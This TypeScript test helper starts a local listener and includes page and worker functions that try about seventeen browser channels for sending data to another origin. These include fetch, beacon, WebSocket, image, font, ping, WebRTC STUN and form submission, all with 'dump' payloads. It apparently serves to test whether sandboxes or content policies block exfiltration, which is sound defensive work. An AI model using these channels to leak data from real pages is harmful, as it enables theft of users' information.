import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** A server of another origin that writes down whatever reaches it. */
export async function listener(): Promise<{ address: string; heard: string[]; close(): Promise<void> }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push((request.url ?? "").replace(/\?.*$/, ""));
    const type = request.url === "/" ? "text/html" : request.url === "/import" ? "text/javascript" : "text/plain";
    response.setHeader("access-control-allow-origin", "*").setHeader("content-type", type).end("");
  });
  server.on("upgrade", (request, socket) => {
    heard.push((request.url ?? "").replace(/\?.*$/, ""));
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const datagrams = createSocket("udp4").on("message", () => void heard.push("/rtc"));
  await new Promise<void>((resolve) => datagrams.bind(port, "127.0.0.1", resolve));
  return {
    address: `http://127.0.0.1:${port}`,
    heard,
    close: () =>
      new Promise((resolve) => {
        datagrams.close();
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

export const waysOut: readonly string[] = [
  ...["fetch", "xhr", "websocket", "events", "beacon", "image", "import", "script", "form", "frame"],
  ...["style", "css-image", "font", "media", "prefetch", "ping", "rtc"],
];
export const waysOutOfWorker: readonly string[] = ["fetch", "xhr", "websocket", "events", "import-scripts"];

/** Runs in the page: tries every way out. A way that throws or is refused is just not taken. */
export async function tryEveryWay(to: string): Promise<void> {
  const attempt = (go: () => unknown): void => {
    try {
      const result = go();
      if (result instanceof Promise) result.catch(() => undefined);
    } catch {}
  };
  const put = (tag: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  attempt(() => fetch(`${to}/fetch`, { mode: "no-cors", method: "POST", body: "dump" }));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open("GET", `${to}/xhr`);
    request.send();
  });
  attempt(() => new WebSocket(`${to.replace("http", "ws")}/websocket`));
  attempt(() => new EventSource(`${to}/events`));
  attempt(() => navigator.sendBeacon(`${to}/beacon`, "dump"));
  attempt(() => {
    new Image().src = `${to}/image`;
  });
  attempt(() => import(`${to}/import`));
  attempt(() => put("script", { src: `${to}/script` }));
  attempt(() => put("iframe", { src: `${to}/frame` }));
  attempt(() => put("link", { rel: "stylesheet", href: `${to}/style` }));
  attempt(() => put("link", { rel: "prefetch", href: `${to}/prefetch` }));
  attempt(() => put("video", { src: `${to}/media`, preload: "auto" }));
  attempt(() => put("a", { href: "#", ping: `${to}/ping` }).click());
  attempt(() => {
    put("p", {}).style.backgroundImage = `url(${to}/css-image)`;
  });
  attempt(() => {
    const face = new FontFace("stolen", `url(${to}/font)`);
    return face.load();
  });
  attempt(async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
    connection.createDataChannel("dump");
    await connection.setLocalDescription(await connection.createOffer());
  });
  attempt(() => {
    put("iframe", { name: "target" });
    (put("form", { action: `${to}/form`, target: "target" }) as HTMLFormElement).submit();
  });
  await new Promise((resolve) => setTimeout(resolve, 1500));
}

/** The same in a worker. */
export async function tryEveryWayOfWorker(to: string): Promise<void> {
  const attempt = (go: () => unknown): void => {
    try {
      const result = go();
      if (result instanceof Promise) result.catch(() => undefined);
    } catch {}
  };
  attempt(() => fetch(`${to}/fetch`, { mode: "no-cors", method: "POST", body: "dump" }));
  attempt(() => {
    const request = new XMLHttpRequest();
    request.open("GET", `${to}/xhr`);
    request.send();
  });
  attempt(() => new WebSocket(`${to.replace("http", "ws")}/websocket`));
  attempt(() => new EventSource(`${to}/events`));
  attempt(() => (globalThis as unknown as { importScripts(url: string): void }).importScripts(`${to}/import-scripts`));
  await new Promise((resolve) => setTimeout(resolve, 1500));
}
